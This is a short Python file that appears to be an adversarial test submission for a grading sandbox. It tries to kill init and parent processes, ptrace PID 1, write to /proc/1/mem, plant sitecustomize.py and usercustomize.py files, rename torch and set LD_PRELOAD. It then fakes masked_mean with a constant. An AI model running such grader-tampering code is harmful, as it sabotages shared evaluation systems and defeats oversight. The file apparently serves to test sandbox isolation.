# ruff: noqa
"""Kill, stop, trace or rewrite what the next student will be graded with."""

import ctypes
import os
import signal
import site
import sys

import torch

for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGSEGV):
    for target in (1, os.getppid(), -1, 0):
        attempt(f"kill {target} with {number}", lambda: os.kill(target, number))
attempt("kill the group of 1", lambda: os.killpg(1, 9))
libc = ctypes.CDLL(None, use_errno=True)
attempt("trace the zygote", lambda: checked(libc.ptrace(16, 1, 0, 0)))
attempt("open its memory", lambda: open("/proc/1/mem", "r+b"))
for folder in (
    *sys.path,
    os.path.dirname(os.__file__),
    os.path.dirname(torch.__file__),
    "/grader",
    "/",
    "/etc",
    "/dev",
):
    attempt(f"write into {folder}", lambda: open(os.path.join(folder, "sitecustomize.py"), "w"))
attempt("replace torch", lambda: os.rename(torch.__file__, torch.__file__ + ".old"))
open(os.path.join(os.environ["HOME"], "usercustomize.py"), "w").write("import os; os._exit(3)")
open(os.path.join(os.environ["HOME"], "matplotlibrc"), "w").write("nonsense")
os.environ["PYTHONSTARTUP"] = os.environ["LD_PRELOAD"] = "/scratch/evil"


def masked_mean(values, mask):
    return torch.tensor(2.0)
